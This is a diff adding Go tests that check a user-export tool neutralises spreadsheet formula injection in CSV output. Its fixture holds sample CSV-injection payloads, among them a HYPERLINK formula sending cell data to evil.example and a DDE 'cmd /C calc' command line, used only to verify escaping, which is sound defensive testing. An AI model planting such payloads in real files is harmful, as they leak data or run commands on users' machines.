@@ -4,6 +4,8 @@ import (
 	"bytes"
 	"context"
 	"encoding/csv"
+	"net/http"
+	"net/http/httptest"
 	"slices"
 	"strconv"
 	"strings"
@@ -78,6 +80,65 @@ func TestExportUsersRefusesBadArguments(t *testing.T) {
 		var out, errOut bytes.Buffer
 		if err := run(context.Background(), args, &out, &errOut); err == nil || out.Len() != 0 {
 			t.Errorf("%q: err = %v, output %q", args, err, out.String())
+		}
+	}
+}
+
+// exportFrom runs the program against a server that answers every user list
+// request with body, and returns the CSV's rows after the header.
+func exportFrom(t *testing.T, body func(r *http.Request) string) [][]string {
+	t.Helper()
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Method != http.MethodGet || r.URL.Path != "/api/accounts/users/" {
+			t.Errorf("unexpected request %s %s", r.Method, r.URL)
+			http.NotFound(w, r)
+			return
+		}
+		w.Header().Set("Content-Type", "application/json")
+		w.Write([]byte(body(r)))
+	}))
+	defer srv.Close()
+	t.Setenv(accounts.EnvAPIKey, "test-key")
+	t.Setenv(accounts.EnvBaseURL, srv.URL+"/api/")
+	var out, errOut bytes.Buffer
+	if err := run(context.Background(), nil, &out, &errOut); err != nil {
+		t.Fatalf("%v\n%s", err, errOut.String())
+	}
+	rows, err := csv.NewReader(&out).ReadAll()
+	if err != nil {
+		t.Fatalf("output is not CSV: %v", err)
+	}
+	if !slices.Equal(rows[0], header) {
+		t.Fatalf("header = %q", rows[0])
+	}
+	return rows[1:]
+}
+
+// TestExportUsersNeutralisesFormulas serves users whose names would run as
+// spreadsheet formulas (the workspace-centric shape, a bare array).
+func TestExportUsersNeutralisesFormulas(t *testing.T) {
+	rows := exportFrom(t, func(r *http.Request) string {
+		if off := r.URL.Query().Get("offset"); off != "" && off != "0" {
+			return `[]`
+		}
+		return `[
+ {"id":1,"email":"a@x.co","first_name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")","last_name":"+1+cmd|' /C calc'!A0","job_title":"-2+3","auth_group":{"id":3,"name":"MEMBER","permissions":[]}},
+ {"id":2,"email":"@b@x.co","first_name":"@SUM(1+1)","last_name":"\tTab","job_title":"\r=1+1","auth_group":null},
+ {"id":3,"email":"c@x.co","first_name":"Ana = Bob","last_name":"O'Neil","job_title":" -lead","auth_group":{"id":2,"name":"ADMIN","permissions":[]}}
+]`
+	})
+	want := [][]string{
+		{"1", "", "a@x.co", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+1+cmd|' /C calc'!A0", "'-2+3", "3", ""},
+		{"2", "", "'@b@x.co", "'@SUM(1+1)", "'\tTab", "'\r=1+1", "", ""},
+		// Only the first character counts; a leading space is not a formula.
+		{"3", "", "c@x.co", "Ana = Bob", "O'Neil", " -lead", "2", ""},
+	}
+	if len(rows) != len(want) {
+		t.Fatalf("rows = %q", rows)
+	}
+	for i := range want {
+		if !slices.Equal(rows[i], want[i]) {
+			t.Errorf("row %d = %q\nwant     %q", i+1, rows[i], want[i])
 		}
 	}
 }
